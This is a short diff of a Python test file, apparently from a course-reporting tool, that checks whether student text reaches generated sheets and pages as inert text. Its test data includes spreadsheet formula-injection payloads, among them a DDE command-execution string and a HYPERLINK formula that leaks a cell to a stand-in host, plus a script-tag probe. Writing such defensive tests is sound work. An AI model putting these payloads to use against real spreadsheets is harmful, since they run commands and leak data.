@@ -14,10 +14,10 @@ from coursekit import cli
 from coursekit.report import build_report
 from coursekit.report.hand_ins import Sorted, hand_ins_in
 from coursekit.report.process_pool import ProcessPool
-from coursekit.report.sheet import Layout
+from coursekit.report.spreadsheet import SheetFormat
 from tests.report.conftest import Classroom
 
-cell = Layout().cell
+cell = SheetFormat().cell
 
 FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"click")', "\t=1+1", "\r=1+1",
@@ -134,7 +134,7 @@ def test_text_of_students_is_never_markup(classroom: Classroom) -> None:
     assert not {name for name in seen.attributes if name.startswith("on")}
     assert seen.text.count("<script>alert(1)</script>") >= 5
     assert "\x1b" not in page
-    assert "default-src &#x27;none&#x27;" in page
+    assert "default-src 'none'" in page
     assert "http://" not in page
     assert "https://" not in page
 
